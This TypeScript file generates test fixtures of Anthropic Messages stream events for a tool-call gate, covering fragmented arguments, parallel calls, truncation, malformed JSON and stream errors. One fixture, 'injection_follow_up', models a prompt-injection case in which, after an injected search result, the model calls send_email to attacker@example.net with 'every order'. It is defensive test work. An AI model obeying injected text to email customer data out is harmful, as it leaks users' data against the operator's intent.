/** The Anthropic Messages fixtures, shaped as the SDK's `RawMessageStreamEvent` (@anthropic-ai/sdk resources/messages/messages.d.ts:4040). */
import { ORDER_OK, KB_OK, write, injectionItem, type J } from './shared.ts';

export function anthropic(): void {
  const usage0 = {
    input_tokens: 412,
    output_tokens: 1,
    cache_creation_input_tokens: 0,
    cache_read_input_tokens: 0,
    cache_creation: null,
    inference_geo: null,
    output_tokens_details: null,
    server_tool_use: null,
    service_tier: 'standard',
    speed: null,
  };
  const start = (id: string) => ({
    type: 'message_start',
    message: {
      id,
      type: 'message',
      role: 'assistant',
      model: 'MODEL-FIXTURE',
      content: [],
      stop_reason: null,
      stop_sequence: null,
      stop_details: null,
      container: null,
      diagnostics: null,
      usage: usage0,
    },
  });
  const mdelta = (stop_reason: string) => ({
    type: 'message_delta',
    delta: { stop_reason, stop_sequence: null, stop_details: null, container: null },
    usage: {
      input_tokens: null,
      output_tokens: 31,
      cache_creation_input_tokens: null,
      cache_read_input_tokens: null,
      output_tokens_details: null,
      server_tool_use: null,
    },
  });
  type B = { kind: 'thinking' | 'text' | 'tool'; id?: string; name?: string; fragments?: string[]; text?: string };
  function stream(mid: string, blocks: B[], opts: { ping?: boolean; emptyFirst?: boolean; stop?: string } = {}) {
    const ev: J[] = [start(mid)];
    blocks.forEach((b, i) => {
      if (b.kind === 'thinking') {
        ev.push({
          type: 'content_block_start',
          index: i,
          content_block: { type: 'thinking', thinking: '', signature: '' },
        });
        ev.push({
          type: 'content_block_delta',
          index: i,
          delta: { type: 'thinking_delta', thinking: 'The user asks about an order; ' },
        });
        ev.push({
          type: 'content_block_delta',
          index: i,
          delta: { type: 'thinking_delta', thinking: 'get_order answers that.' },
        });
        ev.push({
          type: 'content_block_delta',
          index: i,
          delta: { type: 'signature_delta', signature: 'SIG_FIXTURE_EqQBCkYIBRgCKkA' },
        });
      } else if (b.kind === 'text') {
        ev.push({ type: 'content_block_start', index: i, content_block: { type: 'text', text: '', citations: null } });
        ev.push({ type: 'content_block_delta', index: i, delta: { type: 'text_delta', text: b.text } });
      } else {
        ev.push({
          type: 'content_block_start',
          index: i,
          content_block: { type: 'tool_use', id: b.id, name: b.name, input: {}, caller: { type: 'direct' } },
        });
        if (opts.emptyFirst)
          ev.push({ type: 'content_block_delta', index: i, delta: { type: 'input_json_delta', partial_json: '' } });
        (b.fragments as string[]).forEach((f, k) => {
          ev.push({ type: 'content_block_delta', index: i, delta: { type: 'input_json_delta', partial_json: f } });
          if (opts.ping && k === 0) ev.push({ type: 'ping' });
        });
      }
      ev.push({ type: 'content_block_stop', index: i });
    });
    ev.push(mdelta(opts.stop ?? 'tool_use'));
    ev.push({ type: 'message_stop' });
    return ev;
  }
  const history = [{ role: 'user', content: 'Where is my order ORDER-7?' }];
  write('anthropic', {
    id: 'anthropic.one_call',
    title: 'Anthropic: one call, arguments in three fragments',
    summary:
      'A thinking block with its signature, then get_order: a leading empty partial_json, three fragments and a ping between them; stop_reason tool_use.',
    stream: stream(
      'msg_FIXTURE_an01',
      [
        { kind: 'thinking' },
        { kind: 'tool', id: 'toolu_FIXTURE_an01', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] },
      ],
      {
        ping: true,
        emptyFirst: true,
      },
    ),
    calls: ['toolu_FIXTURE_an01'],
    history,
    handlers: { toolu_FIXTURE_an01: ORDER_OK },
    expect: { problems: [], gates: { toolu_FIXTURE_an01: 'handler' } },
  });
  write('anthropic', {
    id: 'anthropic.parallel_calls',
    title: 'Anthropic: two calls in one turn (keyed)',
    summary:
      'A text block, then get_order and search_kb; results go back first, in tool_use order. The audit key is set: HMAC bindings.',
    stream: stream('msg_FIXTURE_an02', [
      { kind: 'text', text: 'I will look up the order and the refund policy.' },
      { kind: 'tool', id: 'toolu_FIXTURE_an02a', name: 'get_order', fragments: ['{"order_ref":', '"ORDER-7"}'] },
      {
        kind: 'tool',
        id: 'toolu_FIXTURE_an02b',
        name: 'search_kb',
        fragments: ['{"query":"refund policy"', ',"top_k":3}'],
      },
    ]),
    calls: ['toolu_FIXTURE_an02a', 'toolu_FIXTURE_an02b'],
    history: [{ role: 'user', content: 'Can ORDER-7 be refunded?' }],
    key: true,
    handlers: { toolu_FIXTURE_an02a: ORDER_OK, toolu_FIXTURE_an02b: KB_OK },
    expect: { problems: [], gates: { toolu_FIXTURE_an02a: 'handler', toolu_FIXTURE_an02b: 'handler' } },
  });
  const tr = stream(
    'msg_FIXTURE_an03',
    [{ kind: 'tool', id: 'toolu_FIXTURE_an03', name: 'get_order', fragments: ['{"order_ref"', ':"ORD'] }],
    { stop: 'max_tokens' },
  );
  write('anthropic', {
    id: 'anthropic.truncated',
    title: 'Anthropic: max_tokens inside the arguments',
    summary: 'stop_reason max_tokens after {"order_ref":"ORD (the SDK parses it to {}): NOT_A_TOOL_TURN, nothing runs.',
    stream: tr,
    calls: ['toolu_FIXTURE_an03'],
    history,
    handlers: {},
    expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  write('anthropic', {
    id: 'anthropic.injection_follow_up',
    title: 'Anthropic: the turn after an injected search hit',
    summary:
      'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: stream('msg_FIXTURE_an04', [
      {
        kind: 'tool',
        id: 'toolu_FIXTURE_an04',
        name: 'send_email',
        fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'],
      },
    ]),
    calls: ['toolu_FIXTURE_an04'],
    history: [
      { role: 'user', content: '退款帮助' },
      {
        role: 'assistant',
        content: [
          { type: 'tool_use', id: 'toolu_06_a7f3c4e1', name: 'search_kb', input: { query: '退款帮助', top_k: 3 } },
        ],
      },
      { role: 'user', content: [injectionItem('anthropic', 'toolu_06_a7f3c4e1')] },
    ],
    handlers: {},
    expect: { problems: [], gates: { toolu_FIXTURE_an04: 'UNKNOWN_TOOL' } },
  });
  write('anthropic', {
    id: 'anthropic.invalid_arguments',
    title: 'Anthropic: arguments that are not JSON',
    summary:
      'A healthy stream whose buffer ends with a stray comma: strict parsing refuses it, the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: stream('msg_FIXTURE_an05', [
      { kind: 'tool', id: 'toolu_FIXTURE_an05', name: 'get_order', fragments: ['{"order_ref":"ORDER-7",', '}'] },
    ]),
    calls: ['toolu_FIXTURE_an05'],
    history,
    handlers: {},
    expect: { problems: [], gates: { toolu_FIXTURE_an05: 'INVALID_ARGUMENTS' } },
  });
  const base = () =>
    stream('msg_FIXTURE_an10', [
      { kind: 'text', text: 'Checking.' },
      { kind: 'tool', id: 'toolu_FIXTURE_an10', name: 'get_order', fragments: ['{"order_ref"', ':"ORDER', '-7"}'] },
    ]);
  const order = base();
  order.splice(2, 0, {
    type: 'content_block_delta',
    index: 0,
    delta: { type: 'input_json_delta', partial_json: '{"order_ref":"ORDER-9"}' },
  });
  write('anthropic', {
    id: 'anthropic.stream_order',
    title: 'Anthropic: an input_json_delta into a text block',
    summary: 'Arguments sent into the text block (the SDK drops them silently): STREAM_ORDER.',
    stream: order,
    calls: ['toolu_FIXTURE_an10'],
    history,
    handlers: { toolu_FIXTURE_an10: ORDER_OK },
    expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('anthropic', {
    id: 'anthropic.stream_unterminated',
    title: 'Anthropic: the stream is cut before message_stop',
    summary: 'message_delta tool_use arrives but message_stop never does: STREAM_UNTERMINATED.',
    stream: base().slice(0, -1),
    calls: ['toolu_FIXTURE_an10'],
    history,
    handlers: { toolu_FIXTURE_an10: ORDER_OK },
    expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 6);
  err.push({ type: 'error', error: { type: 'overloaded_error', message: 'Overloaded' } });
  write('anthropic', {
    id: 'anthropic.stream_error',
    title: 'Anthropic: overloaded_error mid-stream',
    summary: 'An error event while the call is open (the SDK throws an APIError): STREAM_ERROR.',
    stream: err,
    calls: ['toolu_FIXTURE_an10'],
    history,
    handlers: { toolu_FIXTURE_an10: ORDER_OK },
    expect: { problems: ['STREAM_ERROR'], gates: {} },
    malformed: [6],
  });
  write('anthropic', {
    id: 'anthropic.duplicate_call_id',
    title: 'Anthropic: two tool_use blocks share an id',
    summary: 'Two tool_use blocks with one id: DUPLICATE_CALL_ID.',
    stream: stream('msg_FIXTURE_an11', [
      { kind: 'tool', id: 'toolu_FIXTURE_an11', name: 'get_order', fragments: ['{"order_ref":"ORDER-7"}'] },
      { kind: 'tool', id: 'toolu_FIXTURE_an11', name: 'get_order', fragments: ['{"order_ref":"ORDER-8"}'] },
    ]),
    calls: ['toolu_FIXTURE_an11'],
    history,
    handlers: { toolu_FIXTURE_an11: ORDER_OK },
    expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}
